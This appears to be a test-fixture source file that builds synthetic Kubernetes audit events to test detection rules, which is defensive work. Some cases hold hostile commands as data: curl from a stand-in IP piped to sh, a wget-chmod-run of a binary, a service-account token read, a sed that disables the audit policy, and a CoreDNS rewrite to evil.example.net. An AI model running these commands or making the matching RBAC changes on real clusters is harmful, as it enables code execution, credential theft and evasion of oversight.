// Test material: hand-built audit events, shaped like the real capture's and managed clusters' lines, for the attack-class rules.
import { parseAuditLine, type AuditEvent } from '../parse/audit.ts';

export type Raw = Record<string, unknown>;

/** One rule's labelled pair: a positive that must raise the rule, and a near miss that must not raise it. */
export interface AttackCase { rule: string; behaviour: string; hit: Raw; miss: Raw; missWhy: string }

let seq = 0;

/** An audit event as the apiserver writes it (kubectl as the contractor mallory by default), overridden by `over`. */
export function auditEvent(over: Raw): AuditEvent {
  const base: Raw = {
    kind: 'Event', apiVersion: 'audit.k8s.io/v1', level: 'RequestResponse', auditID: `00000000-0000-4000-a000-${String(++seq).padStart(12, '0')}`,
    stage: 'ResponseComplete', requestURI: '/api/v1/namespaces/payments/pods', verb: 'get',
    user: { username: 'mallory', uid: '3301', groups: ['contractors', 'system:authenticated'] },
    sourceIPs: ['127.0.0.143'], userAgent: 'kubectl/v1.26.1 (linux/amd64) kubernetes/8f94681',
    objectRef: { resource: 'pods', namespace: 'payments', apiVersion: 'v1' },
    responseStatus: { metadata: {}, code: 200 },
    requestReceivedTimestamp: '2026-11-22T12:10:00.000000Z', stageTimestamp: '2026-11-22T12:10:00.010000Z',
    annotations: { 'authorization.k8s.io/decision': 'allow', 'authorization.k8s.io/reason': '' },
  };
  const obj: Raw = { ...base, ...over };
  const ordered: Raw = {};
  for (const k of ['kind', 'apiVersion', 'level', 'auditID', 'stage', 'requestURI', 'verb', 'user', 'impersonatedUser', 'sourceIPs', 'userAgent', 'objectRef', 'responseStatus', 'requestObject', 'responseObject', 'requestReceivedTimestamp', 'stageTimestamp', 'annotations']) {
    if (obj[k] !== undefined) ordered[k] = obj[k];
  }
  const r = parseAuditLine(JSON.stringify(ordered));
  if (!r.ok) throw new Error(r.error);
  return r.event;
}

const user = (username: string, ...groups: string[]) => ({ user: { username, groups: [...groups, 'system:authenticated'] } });
const sa = (ns: string, name: string) => ({ ...user(`system:serviceaccount:${ns}:${name}`, 'system:serviceaccounts', `system:serviceaccounts:${ns}`), userAgent: `${name}/v0.0.0 (linux/amd64) kubernetes/$Format`, sourceIPs: ['10.244.1.17'] });
export const identities = {
  mallory: user('mallory', 'contractors'),
  dana: { ...user('dana@corp.example', 'oidc:sre'), sourceIPs: ['127.0.0.12'] },
  podToken: sa('payments', 'report-gen'),
  ci: sa('ci', 'deployer'),
  anonymous: { user: { username: 'system:anonymous', groups: ['system:unauthenticated'] }, sourceIPs: ['127.0.0.201'], userAgent: 'curl/8.4.0' },
  node1: { ...user('system:node:node-1', 'system:nodes'), userAgent: 'kubelet/v1.26.1 (linux/amd64) kubernetes/8f94681', sourceIPs: ['127.0.0.51'] },
  controller: (name: string) => ({ ...user(`system:serviceaccount:kube-system:${name}`, 'system:serviceaccounts', 'system:serviceaccounts:kube-system'), sourceIPs: ['127.0.0.1'], userAgent: `kube-controller-manager/v1.26.1 (linux/amd64) kubernetes/8f94681/system:serviceaccount:kube-system:${name}` }),
  // Managed control planes: EKS, AKS and GKE identities, from the providers' addresses.
  eks: (name: string) => ({ ...user(`eks:${name}`), sourceIPs: ['52.94.133.131'], userAgent: 'eks-addon-manager/v1.28 (linux/amd64)' }),
  aks: { ...user('aksService', 'system:masters'), sourceIPs: ['20.62.133.11'], userAgent: 'aks-rp/v1 (linux/amd64)' },
  gke: { ...user('system:gcp-controller-manager'), sourceIPs: ['35.238.12.4'], userAgent: 'gcp-controller-manager/v1.28.3 (linux/amd64) kubernetes/abc' },
};

const GROUPS: Record<string, string> = {
  deployments: 'apps', daemonsets: 'apps', statefulsets: 'apps', replicasets: 'apps', cronjobs: 'batch', jobs: 'batch',
  rolebindings: 'rbac.authorization.k8s.io', clusterrolebindings: 'rbac.authorization.k8s.io', roles: 'rbac.authorization.k8s.io', clusterroles: 'rbac.authorization.k8s.io',
  certificatesigningrequests: 'certificates.k8s.io', ingresses: 'networking.k8s.io',
  selfsubjectaccessreviews: 'authorization.k8s.io', selfsubjectrulesreviews: 'authorization.k8s.io', selfsubjectreviews: 'authentication.k8s.io',
};

interface Req { ns?: string; name?: string; sub?: string; code?: number; body?: unknown; response?: unknown; query?: string; level?: string }

/** A request on `resource` with its URI, objectRef and status as the apiserver logs them. */
export function req(verb: string, resource: string, o: Req = {}): Raw {
  const group = GROUPS[resource];
  const prefix = group ? `/apis/${group}/v1` : '/api/v1';
  const uri = `${prefix}${o.ns ? `/namespaces/${o.ns}` : ''}/${resource}${o.name && verb !== 'create' ? `/${o.name}` : ''}${o.sub ? `/${o.sub}` : ''}${o.query ? `?${o.query}` : ''}`;
  const code = o.code ?? (verb === 'create' ? 201 : 200);
  const refused = code >= 400;
  return {
    verb, requestURI: uri, level: o.level ?? 'RequestResponse',
    objectRef: { resource, ...(o.ns ? { namespace: o.ns } : {}), ...(o.name ? { name: o.name } : {}), ...(group ? { apiGroup: group } : {}), apiVersion: 'v1', ...(o.sub ? { subresource: o.sub } : {}) },
    responseStatus: refused ? { metadata: {}, status: 'Failure', reason: code === 403 ? 'Forbidden' : 'Failure', message: `${resource} is forbidden`, code } : { metadata: {}, code },
    requestObject: o.body, responseObject: o.response ?? (refused ? undefined : o.body),
    ...(code === 403 ? { annotations: { 'authorization.k8s.io/decision': 'forbid', 'authorization.k8s.io/reason': '' } } : {}),
  };
}

/** A workload of `kind` whose pod template (or the pod itself) has `spec`. */
export function workload(kind: 'Pod' | 'Deployment' | 'DaemonSet' | 'CronJob', name: string, ns: string, spec: Raw): Raw {
  const pod = { containers: [{ name: 'app', image: 'docker.io/library/nginx:1.25' }], ...spec };
  const meta = { name, namespace: ns };
  if (kind === 'Pod') return { kind, apiVersion: 'v1', metadata: meta, spec: pod };
  if (kind === 'CronJob') return { kind, apiVersion: 'batch/v1', metadata: meta, spec: { schedule: '0 3 * * *', jobTemplate: { spec: { template: { spec: { restartPolicy: 'Never', ...pod } } } } } };
  return { kind, apiVersion: 'apps/v1', metadata: meta, spec: { selector: { matchLabels: { app: name } }, template: { metadata: { labels: { app: name } }, spec: pod } } };
}

const RESOURCE: Record<string, string> = { Pod: 'pods', Deployment: 'deployments', DaemonSet: 'daemonsets', CronJob: 'cronjobs' };
export function createWorkload(kind: 'Pod' | 'Deployment' | 'DaemonSet' | 'CronJob', name: string, ns: string, spec: Raw, o: Req = {}): Raw {
  return req('create', RESOURCE[kind], { ns, name, body: workload(kind, name, ns, spec), ...o });
}

export function roleBinding(kind: 'RoleBinding' | 'ClusterRoleBinding', name: string, role: string, subjects: Raw[], o: Req = {}): Raw {
  const ns = kind === 'RoleBinding' ? 'payments' : undefined;
  const body = { kind, apiVersion: 'rbac.authorization.k8s.io/v1', metadata: { name, ...(ns ? { namespace: ns } : {}) }, subjects, roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: role } };
  return req('create', kind === 'RoleBinding' ? 'rolebindings' : 'clusterrolebindings', { ns, name, body, ...o });
}

export function role(name: string, rules: Raw[], o: Req = {}): Raw {
  return req('create', 'clusterroles', { name, body: { kind: 'ClusterRole', apiVersion: 'rbac.authorization.k8s.io/v1', metadata: { name }, rules }, ...o });
}

function configMapWrite(name: string, data: Raw, verb = 'update'): Raw {
  return req(verb, 'configmaps', { ns: 'kube-system', name, body: { kind: 'ConfigMap', apiVersion: 'v1', metadata: { name, namespace: 'kube-system' }, data } });
}

function ingress(annotations: Raw, tls: boolean): Raw {
  const body = {
    kind: 'Ingress', apiVersion: 'networking.k8s.io/v1', metadata: { name: 'shop', namespace: 'storefront', annotations },
    spec: { ingressClassName: 'nginx', rules: [{ host: 'shop.example.com', http: { paths: [{ path: '/', pathType: 'Prefix', backend: { service: { name: 'web', port: { number: 80 } } } }] } }], ...(tls ? { tls: [{ hosts: ['shop.example.com'], secretName: 'shop-tls' }] } : {}) },
  };
  return req('create', 'ingresses', { ns: 'storefront', name: 'shop', body });
}

function exec(command: string, code: number, verb = 'create'): Raw {
  const query = `${command.split(' ').map((c) => `command=${encodeURIComponent(c)}`).join('&')}&container=app&stdout=true`;
  return req(verb, 'pods', { ns: 'payments', name: 'report-gen-d7d67cfb6-tbqjw', sub: 'exec', query, code, level: 'Request' });
}

const csr = (signerName: string) => ({ kind: 'CertificateSigningRequest', apiVersion: 'certificates.k8s.io/v1', metadata: { name: 'mallory-admin' }, spec: { request: 'LS0tLS1CRUdJTi…', signerName, usages: ['client auth'] } });
const { mallory, dana, podToken, ci, anonymous, node1, controller, eks, aks, gke } = identities;
const kubectl = (version: string) => `kubectl/${version} (linux/amd64) kubernetes/8f94681`;

export const ATTACK_CASES: AttackCase[] = [
  // ---- outcome: attempts whatever the answer
  { rule: 'KA-EXEC-004', behaviour: 'an exec the kubelet could not serve (502)', hit: { ...mallory, ...exec('cat /var/run/secrets/kubernetes.io/serviceaccount/token', 502) },
    miss: { ...controller('generic-garbage-collector'), ...exec('ls', 404) }, missWhy: 'a kube-system controller' },
  { rule: 'KA-EXEC-004', behaviour: 'a websocket exec (get) refused as a bad request (400)', hit: { ...mallory, ...exec('sh', 400, 'get') },
    miss: { ...mallory, ...exec('sh', 101, 'get') }, missWhy: 'the same exec upgraded (KA-EXEC-001\'s)' },
  { rule: 'KA-CRED-003', behaviour: 'a secret read with a revoked token (401, logged at ResponseStarted)', hit: { user: {}, stage: 'ResponseStarted', ...req('get', 'secrets', { ns: 'payments', name: 'db', code: 401, level: 'Metadata' }) },
    miss: { ...dana, ...req('get', 'secrets', { ns: 'payments', name: 'db', level: 'Metadata' }) }, missWhy: 'a read that succeeded (KA-CRED-008\'s)' },
  { rule: 'KA-CRED-003', behaviour: 'a person guessing secret names (404)', hit: { ...mallory, ...req('get', 'secrets', { ns: 'kube-system', name: 'etcd-backup-key', code: 404, level: 'Metadata' }) },
    miss: { ...identities.ci, ...req('get', 'secrets', { ns: 'ci', name: 'sh.helm.release.v1.web.v3', code: 404, level: 'Metadata' }) }, missWhy: 'a deployment tool checking whether a release secret exists' },
  { rule: 'KA-RBAC-004', behaviour: 'a refused ClusterRoleBinding delete', hit: { ...mallory, ...req('delete', 'clusterrolebindings', { name: 'audit-reader', code: 403, level: 'Metadata' }) },
    miss: { ...mallory, ...req('get', 'clusterrolebindings', { name: 'audit-reader', code: 403, level: 'Metadata' }) }, missWhy: 'a refused read' },
  { rule: 'KA-CONT-012', behaviour: 'a refused pod create whose body the policy did not log', hit: { ...mallory, ...req('create', 'pods', { ns: 'payments', code: 403, level: 'Metadata' }) },
    miss: { ...node1, ...req('create', 'pods', { ns: 'payments', code: 403, level: 'Metadata' }) }, missWhy: 'a node identity (KA-STATIC-004\'s)' },
  { rule: 'KA-CONT-008', behaviour: 'a person\'s pod in kube-node-lease', hit: { ...mallory, ...createWorkload('Pod', 'lease-helper', 'kube-node-lease', {}) },
    miss: { ...mallory, ...createWorkload('Pod', 'lease-helper', 'payments', {}) }, missWhy: 'the same pod in an application namespace' },

  // ---- reconnaissance
  { rule: 'KA-ANON-004', behaviour: 'an anonymous curl of /version', hit: { ...anonymous, verb: 'get', requestURI: '/version', objectRef: undefined },
    miss: { ...anonymous, userAgent: 'kube-probe/1.26', verb: 'get', requestURI: '/readyz', objectRef: undefined }, missWhy: 'the kubelet\'s readiness probe' },
  { rule: 'KA-ANON-004', behaviour: 'an anonymous read of the OIDC discovery document from a public address', hit: { ...anonymous, sourceIPs: ['198.51.100.23'], userAgent: 'python-requests/2.31.0', verb: 'get', requestURI: '/.well-known/openid-configuration', objectRef: undefined },
    miss: { ...anonymous, sourceIPs: ['35.191.10.4'], userAgent: 'GoogleHC/1.0', verb: 'get', requestURI: '/healthz', objectRef: undefined }, missWhy: 'a Google load-balancer health check' },
  { rule: 'KA-RECON-001', behaviour: 'kubectl auth can-i --list by a person', hit: { ...mallory, ...req('create', 'selfsubjectrulesreviews', { body: { kind: 'SelfSubjectRulesReview', spec: { namespace: 'payments' } } }) },
    miss: { ...controller('namespace-controller'), ...req('create', 'subjectaccessreviews', {}) }, missWhy: 'a controller\'s SubjectAccessReview' },
  { rule: 'KA-RECON-002', behaviour: 'a pod\'s token listing its own rights', hit: { ...podToken, ...req('create', 'selfsubjectrulesreviews', { body: { kind: 'SelfSubjectRulesReview', spec: { namespace: 'payments' } } }) },
    miss: { ...podToken, ...req('create', 'selfsubjectaccessreviews', { body: { kind: 'SelfSubjectAccessReview', spec: { resourceAttributes: { verb: 'get', resource: 'configmaps' } } } }) }, missWhy: 'one permission checked by an application' },
  { rule: 'KA-RECON-003', behaviour: 'a dry-run privileged pod', hit: { ...mallory, ...createWorkload('Pod', 'probe', 'payments', {}, { query: 'dryRun=All&fieldManager=kubectl-run' }) },
    miss: { ...mallory, ...createWorkload('Pod', 'probe', 'payments', {}, { query: 'fieldManager=kubectl-run' }) }, missWhy: 'the same create without dry run' },

  // ---- user agents
  { rule: 'KA-UA-001', behaviour: 'rakkess mapping a token\'s access', hit: { ...podToken, userAgent: 'rakkess/v0.5.0 (linux/amd64) kubernetes/$Format', ...req('list', 'secrets', { ns: 'payments', code: 403 }) },
    miss: { ...podToken, ...req('list', 'configmaps', { ns: 'payments' }) }, missWhy: 'the application\'s own client' },
  { rule: 'KA-UA-001', behaviour: 'trufflehog reading secrets', hit: { ...mallory, userAgent: 'TruffleHog/3.63', ...req('list', 'secrets', { ns: 'payments' }) },
    miss: { ...mallory, userAgent: 'Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0', ...req('list', 'pods', { ns: 'payments' }) }, missWhy: 'a browser (a dashboard) listing pods' },
  { rule: 'KA-UA-006', behaviour: 'a kubectl 1.18 against a 1.26 server', hit: { ...mallory, userAgent: kubectl('v1.18.0'), ...req('list', 'pods', { ns: 'payments' }) },
    miss: { ...mallory, userAgent: kubectl('v1.25.4'), ...req('list', 'pods', { ns: 'payments' }) }, missWhy: 'a kubectl one minor behind' },
  { rule: 'KA-UA-006', behaviour: 'a person\'s request without a user agent', hit: { ...mallory, userAgent: undefined, ...req('list', 'pods', { ns: 'payments' }) },
    miss: { ...anonymous, userAgent: undefined, verb: 'get', requestURI: '/healthz', objectRef: undefined }, missWhy: 'an anonymous probe without a user agent' },
  { rule: 'KA-UA-007', behaviour: 'a person listing services with python-requests', hit: { ...mallory, userAgent: 'python-requests/2.31.0', ...req('list', 'services', { ns: 'payments' }) },
    miss: { ...podToken, userAgent: 'Go-http-client/2.0', ...req('list', 'services', { ns: 'payments' }) }, missWhy: 'a pod\'s generic client on its own namespace from inside the cluster' },

  // ---- credentials
  { rule: 'KA-CRED-010', behaviour: 'a person replacing a registry pull secret', hit: { ...dana, ...req('update', 'secrets', { ns: 'payments', name: 'regcred', level: 'Metadata' }) },
    miss: { ...ci, ...req('update', 'secrets', { ns: 'payments', name: 'regcred', level: 'Metadata' }) }, missWhy: 'the CI deployer service account' },
  { rule: 'KA-CRED-011', behaviour: 'a long-lived token Secret for a service account', hit: { ...mallory, ...req('create', 'secrets', { ns: 'payments', name: 'report-gen-token', body: { kind: 'Secret', apiVersion: 'v1', metadata: { name: 'report-gen-token', annotations: { 'kubernetes.io/service-account.name': 'report-gen' } }, type: 'kubernetes.io/service-account-token' } }) },
    miss: { ...mallory, ...req('create', 'secrets', { ns: 'payments', name: 'db', body: { kind: 'Secret', apiVersion: 'v1', metadata: { name: 'db' }, type: 'Opaque' } }) }, missWhy: 'an Opaque secret' },
  { rule: 'KA-CRED-012', behaviour: 'a person creating a CSR for the kubelet-serving signer', hit: { ...mallory, ...req('create', 'certificatesigningrequests', { name: 'mallory-admin', body: csr('kubernetes.io/kubelet-serving') }) },
    miss: { ...user('system:bootstrap:abcdef', 'system:bootstrappers'), ...req('create', 'certificatesigningrequests', { name: 'node-csr-x', body: csr('kubernetes.io/kube-apiserver-client-kubelet') }) }, missWhy: 'a node bootstrapping with its token' },
  { rule: 'KA-CRED-013', behaviour: 'a person requesting an API client certificate', hit: { ...mallory, ...req('create', 'certificatesigningrequests', { name: 'mallory-admin', body: csr('kubernetes.io/kube-apiserver-client') }) },
    miss: { ...node1, ...req('create', 'certificatesigningrequests', { name: 'csr-node-1', body: csr('kubernetes.io/kube-apiserver-client-kubelet') }) }, missWhy: 'a kubelet renewing its client certificate' },
  { rule: 'KA-CRED-014', behaviour: 'a person listing configmaps in all namespaces', hit: { ...mallory, ...req('list', 'configmaps', { level: 'Metadata' }) },
    miss: { ...mallory, ...req('list', 'configmaps', { ns: 'payments', level: 'Metadata' }) }, missWhy: 'a list in one namespace' },
  { rule: 'KA-CRED-015', behaviour: 'a refused configmap get', hit: { ...mallory, ...req('get', 'configmaps', { ns: 'kube-system', name: 'kubeadm-config', code: 403, level: 'Metadata' }) },
    miss: { ...node1, ...req('get', 'configmaps', { ns: 'payments', name: 'app', code: 403, level: 'Metadata' }) }, missWhy: 'a kubelet refused a ConfigMap of a pod not bound to it' },
  { rule: 'KA-CRED-018', behaviour: 'a pod\'s token used from a public address', hit: { ...podToken, sourceIPs: ['203.0.113.50'], ...req('list', 'secrets', { ns: 'payments', level: 'Metadata' }) },
    miss: { ...gke, ...req('list', 'nodes', { level: 'Metadata' }) }, missWhy: 'GKE\'s controller manager from Google\'s addresses' },
  { rule: 'KA-CRED-019', behaviour: 'a person listing the secrets of an application namespace', hit: { ...dana, ...req('list', 'secrets', { ns: 'payments', level: 'Metadata' }) },
    miss: { ...dana, ...req('list', 'secrets', { ns: 'payments', code: 403, level: 'Metadata' }) }, missWhy: 'the same list refused' },
  { rule: 'KA-CRED-020', behaviour: 'a node identity from a public address', hit: { ...node1, sourceIPs: ['54.212.83.236'], ...req('list', 'pods', { level: 'Metadata' }) },
    miss: { ...node1, sourceIPs: ['54.212.83.236', '10.0.4.17'], ...req('list', 'pods', { level: 'Metadata' }) }, missWhy: 'the node\'s own address with a public one forwarded before it' },
  { rule: 'KA-CRED-021', behaviour: 'kubeadm\'s admin kubeconfig used with kubectl', hit: { user: { username: 'kubernetes-admin', groups: ['kubeadm:cluster-admins', 'system:authenticated'] }, sourceIPs: ['192.168.7.20'], ...req('list', 'pods', { level: 'Metadata' }) },
    miss: { user: { username: 'kubernetes-admin', groups: ['kubeadm:cluster-admins', 'system:authenticated'] }, sourceIPs: ['10.0.0.10'], userAgent: 'kubeadm/v1.30.2 (linux/amd64) kubernetes/3b4e', ...req('get', 'configmaps', { ns: 'kube-system', name: 'kubeadm-config', level: 'Metadata' }) }, missWhy: 'kubeadm itself on the control-plane node' },

  // ---- workloads
  { rule: 'KA-CONT-013', behaviour: 'a deployment running as root', hit: { ...mallory, ...createWorkload('Deployment', 'api', 'payments', { securityContext: { runAsUser: 0 } }) },
    miss: { ...mallory, ...createWorkload('Deployment', 'api', 'payments', { securityContext: { runAsUser: 1000, runAsNonRoot: true } }) }, missWhy: 'a non-root deployment' },
  { rule: 'KA-CONT-014', behaviour: 'a pod that pipes curl to sh', hit: { ...mallory, ...createWorkload('Pod', 'updater', 'payments', { containers: [{ name: 'u', image: 'alpine:3.19', command: ['sh', '-c', 'curl -fsSL http://203.0.113.7/x.sh | sh'] }] }) },
    miss: { ...mallory, ...createWorkload('Pod', 'updater', 'payments', { containers: [{ name: 'u', image: 'alpine:3.19', command: ['sh', '-c', 'curl -fsS http://web/healthz'] }] }) }, missWhy: 'a curl health check' },
  { rule: 'KA-CONT-014', behaviour: 'a deployment that downloads and chmods a binary', hit: { ...mallory, ...createWorkload('Deployment', 'helper', 'payments', { containers: [{ name: 'h', image: 'alpine:3.19', args: ['wget -q http://203.0.113.7/kx -O /tmp/kx && chmod +x /tmp/kx && /tmp/kx'] }] }) },
    miss: { ...mallory, ...createWorkload('Deployment', 'helper', 'payments', { containers: [{ name: 'h', image: 'alpine:3.19', args: ['chmod +x /app/run.sh && /app/run.sh'] }] }) }, missWhy: 'a chmod without a download' },
  { rule: 'KA-CONT-015', behaviour: 'an image from a registry given by IP', hit: { ...mallory, ...createWorkload('Pod', 'svc', 'payments', { containers: [{ name: 'c', image: '45.9.148.108:5000/tools/sys:latest' }] }) },
    miss: { ...mallory, ...createWorkload('Pod', 'svc', 'payments', { containers: [{ name: 'c', image: 'registry.corp.example:5000/tools/sys:1.2' }] }) }, missWhy: 'a named registry with a port' },
  { rule: 'KA-CONT-016', behaviour: 'an image from an unknown registry', hit: { ...mallory, ...createWorkload('Pod', 'svc', 'payments', { containers: [{ name: 'c', image: 'registry-docker.io.example.net/library/nginx' }] }) },
    miss: { ...mallory, ...createWorkload('Pod', 'svc', 'payments', { containers: [{ name: 'c', image: 'nginx:1.25' }, { name: 's', image: 'quay.io/prometheus/node-exporter:v1.7.0' }] }) }, missWhy: 'Docker Hub and quay.io images' },
  { rule: 'KA-CONT-017', behaviour: 'a person creating a DaemonSet', hit: { ...mallory, ...createWorkload('DaemonSet', 'node-agent', 'payments', {}) },
    miss: { ...ci, ...createWorkload('DaemonSet', 'node-agent', 'payments', {}) }, missWhy: 'the CI deployer' },
  { rule: 'KA-CRON-006', behaviour: 'a person creating a CronJob', hit: { ...mallory, ...createWorkload('CronJob', 'cleanup', 'payments', {}) },
    miss: { ...mallory, ...createWorkload('CronJob', 'cleanup', 'payments', {}, { code: 403 }) }, missWhy: 'a refused create (KA-CRON-005\'s)' },
  { rule: 'KA-CONT-018', behaviour: 'a JSON patch adding a sidecar', hit: { ...mallory, ...req('patch', 'deployments', { ns: 'storefront', name: 'cart', body: [{ op: 'add', path: '/spec/template/spec/containers/-', value: { name: 'metrics', image: 'docker.io/attacker/proxy:1' } }] }) },
    miss: { ...mallory, ...req('patch', 'deployments', { ns: 'storefront', name: 'cart', body: [{ op: 'replace', path: '/spec/template/spec/containers/0/image', value: 'registry.corp.example/shop/cart:7.1.77' }] }) }, missWhy: 'an image bump' },
  { rule: 'KA-CONT-019', behaviour: 'a person\'s pod named kube-proxy-… in default', hit: { ...mallory, ...createWorkload('Pod', 'kube-proxy-7xk2p', 'default', {}) },
    miss: { ...mallory, ...createWorkload('Pod', 'proxy-kube-7xk2p', 'default', {}) }, missWhy: 'an ordinary name' },
  { rule: 'KA-EXPOSE-007', behaviour: 'a pod binding host port 10250', hit: { ...mallory, ...createWorkload('Pod', 'p', 'payments', { containers: [{ name: 'c', image: 'nginx', ports: [{ containerPort: 80, hostPort: 10250 }] }] }) },
    miss: { ...mallory, ...createWorkload('Pod', 'p', 'payments', { containers: [{ name: 'c', image: 'nginx', ports: [{ containerPort: 80 }] }] }) }, missWhy: 'a container port only' },
  { rule: 'KA-MOUNT-005', behaviour: 'a subPath climbing out of its volume', hit: { ...mallory, ...createWorkload('Pod', 'p', 'payments', { containers: [{ name: 'c', image: 'nginx', volumeMounts: [{ name: 'data', mountPath: '/data', subPath: '../../../../etc' }] }], volumes: [{ name: 'data', emptyDir: {} }] }) },
    miss: { ...mallory, ...createWorkload('Pod', 'p', 'payments', { containers: [{ name: 'c', image: 'nginx', volumeMounts: [{ name: 'conf', mountPath: '/etc/nginx/nginx.conf', subPath: 'nginx.conf' }] }], volumes: [{ name: 'conf', configMap: { name: 'nginx' } }] }) }, missWhy: 'a ConfigMap key mounted by subPath' },
  { rule: 'KA-MOUNT-005', behaviour: 'a subPath into a hostPath volume', hit: { ...mallory, ...createWorkload('Deployment', 'd', 'payments', { containers: [{ name: 'c', image: 'nginx', volumeMounts: [{ name: 'h', mountPath: '/x', subPath: 'link' }] }], volumes: [{ name: 'h', hostPath: { path: '/tmp/share' } }] }) },
    miss: { ...mallory, ...createWorkload('Deployment', 'd', 'payments', { containers: [{ name: 'c', image: 'nginx', volumeMounts: [{ name: 'h', mountPath: '/x' }] }], volumes: [{ name: 'h', hostPath: { path: '/tmp/share' } }] }) }, missWhy: 'the host directory mounted whole' },
  { rule: 'KA-MOUNT-006', behaviour: 'a pod mounting a plain host directory', hit: { ...mallory, ...createWorkload('Pod', 'p', 'payments', { volumes: [{ name: 'h', hostPath: { path: '/mnt/data' } }] }) },
    miss: { ...mallory, ...req('patch', 'pods', { ns: 'payments', name: 'p', body: { metadata: { labels: { tier: 'web' } } }, response: workload('Pod', 'p', 'payments', { volumes: [{ name: 'h', hostPath: { path: '/mnt/data' } }] }) }) }, missWhy: 'a label patch of a pod that already has it' },

  // ---- RBAC
  { rule: 'KA-RBAC-005', behaviour: 'a binding to the clusterrole-aggregation controller\'s role', hit: { ...mallory, ...roleBinding('ClusterRoleBinding', 'agg', 'system:controller:clusterrole-aggregation-controller', [{ kind: 'User', name: 'mallory' }]) },
    miss: { ...mallory, ...roleBinding('ClusterRoleBinding', 'disc', 'system:discovery', [{ kind: 'User', name: 'mallory' }]) }, missWhy: 'the discovery role' },
  { rule: 'KA-RBAC-006', behaviour: 'edit granted in every namespace', hit: { ...dana, ...roleBinding('ClusterRoleBinding', 'contractors-edit', 'edit', [{ kind: 'Group', name: 'contractors' }]) },
    miss: { ...dana, ...roleBinding('RoleBinding', 'contractors-edit', 'edit', [{ kind: 'Group', name: 'contractors' }]) }, missWhy: 'edit in one namespace' },
  { rule: 'KA-RBAC-007', behaviour: 'a person deleting a RoleBinding', hit: { ...dana, ...req('delete', 'rolebindings', { ns: 'payments', name: 'auditors', level: 'Metadata' }) },
    miss: { ...ci, ...req('delete', 'rolebindings', { ns: 'payments', name: 'auditors', level: 'Metadata' }) }, missWhy: 'the CI deployer' },
  { rule: 'KA-RBAC-008', behaviour: 'a ClusterRole reading secrets', hit: { ...dana, ...role('secret-reader', [{ apiGroups: [''], resources: ['secrets'], verbs: ['get', 'list'] }]) },
    miss: { ...dana, ...role('config-reader', [{ apiGroups: [''], resources: ['configmaps', 'pods'], verbs: ['get', 'list'] }]) }, missWhy: 'a role reading configmaps and pods' },
  { rule: 'KA-RBAC-009', behaviour: 'a ClusterRole with write verbs', hit: { ...dana, ...role('deployer', [{ apiGroups: ['apps'], resources: ['deployments'], verbs: ['get', 'patch'] }]) },
    miss: { ...dana, ...role('viewer', [{ apiGroups: ['apps'], resources: ['deployments'], verbs: ['get', 'list', 'watch'] }]) }, missWhy: 'a read-only role' },
  { rule: 'KA-ANONPERM-004', behaviour: 'view granted to every service account', hit: { ...dana, ...roleBinding('ClusterRoleBinding', 'all-sa-view', 'view', [{ kind: 'Group', name: 'system:serviceaccounts' }]) },
    miss: { ...dana, ...roleBinding('ClusterRoleBinding', 'oidc-discovery', 'system:service-account-issuer-discovery', [{ kind: 'Group', name: 'system:authenticated' }]) }, missWhy: 'the built-in issuer discovery role' },
  { rule: 'KA-ANONPERM-003', behaviour: 'cluster-admin bound to a default service account', hit: { ...mallory, ...roleBinding('ClusterRoleBinding', 'default-admin', 'cluster-admin', [{ kind: 'ServiceAccount', name: 'default', namespace: 'payments' }]) },
    miss: { ...mallory, ...roleBinding('RoleBinding', 'default-view', 'view', [{ kind: 'ServiceAccount', name: 'default', namespace: 'payments' }]) }, missWhy: 'view bound to the default account' },
  { rule: 'KA-RBAC-001', behaviour: 'a JSON patch adding a subject to a cluster-admin binding', hit: { ...mallory, ...req('patch', 'clusterrolebindings', { name: 'ops-admin', body: [{ op: 'add', path: '/subjects/-', value: { kind: 'User', name: 'mallory' } }], response: { kind: 'ClusterRoleBinding', metadata: { name: 'ops-admin' }, roleRef: { kind: 'ClusterRole', name: 'cluster-admin' }, subjects: [{ kind: 'Group', name: 'ops' }, { kind: 'User', name: 'mallory' }] } }) },
    miss: { ...dana, ...req('patch', 'clusterrolebindings', { name: 'ops-admin', body: [{ op: 'remove', path: '/subjects/1' }], response: { kind: 'ClusterRoleBinding', metadata: { name: 'ops-admin' }, roleRef: { kind: 'ClusterRole', name: 'cluster-admin' }, subjects: [{ kind: 'Group', name: 'ops' }] } }) }, missWhy: 'a patch removing a subject from it' },
  { rule: 'KA-ANONPERM-001', behaviour: 'a JSON patch adding system:anonymous to a binding', hit: { ...mallory, ...req('patch', 'clusterrolebindings', { name: 'system:public-info-viewer', body: [{ op: 'add', path: '/subjects/-', value: { kind: 'User', name: 'system:anonymous' } }], response: { kind: 'ClusterRoleBinding', roleRef: { kind: 'ClusterRole', name: 'system:public-info-viewer' }, subjects: [{ kind: 'Group', name: 'system:authenticated' }, { kind: 'Group', name: 'system:unauthenticated' }, { kind: 'User', name: 'system:anonymous' }] } }) },
    miss: { ...dana, ...req('patch', 'clusterrolebindings', { name: 'system:public-info-viewer', body: [{ op: 'remove', path: '/subjects/0' }], response: { kind: 'ClusterRoleBinding', roleRef: { kind: 'ClusterRole', name: 'system:public-info-viewer' }, subjects: [{ kind: 'Group', name: 'system:unauthenticated' }] } }) }, missWhy: 'a patch removing another subject, the built-in unauthenticated group remaining' },

  // ---- cluster configuration
  { rule: 'KA-EVADE-005', behaviour: 'a person rewriting the CoreDNS Corefile', hit: { ...mallory, ...configMapWrite('coredns', { Corefile: '.:53 {\n    rewrite name registry.corp.example evil.example.net\n    forward . /etc/resolv.conf\n}\n' }) },
    miss: { ...eks('addon-manager'), ...configMapWrite('coredns', { Corefile: '.:53 {\n    forward . /etc/resolv.conf\n}\n' }) }, missWhy: 'the EKS add-on manager updating CoreDNS' },
  { rule: 'KA-EVADE-006', behaviour: 'a person editing aws-auth', hit: { ...mallory, ...configMapWrite('aws-auth', { mapRoles: '- rolearn: arn:aws:iam::111122223333:role/x\n  username: x\n  groups: [system:masters]\n' }) },
    miss: { ...mallory, ...req('get', 'configmaps', { ns: 'kube-system', name: 'aws-auth' }) }, missWhy: 'reading it' },
  { rule: 'KA-EVADE-007', behaviour: 'an exec editing the audit policy on a control-plane pod', hit: { ...mallory, ...exec('sed -i s/RequestResponse/None/ /etc/kubernetes/audit-policy.yaml', 101) },
    miss: { ...mallory, ...exec('cat /etc/nginx/nginx.conf', 101) }, missWhy: 'an exec reading another file' },
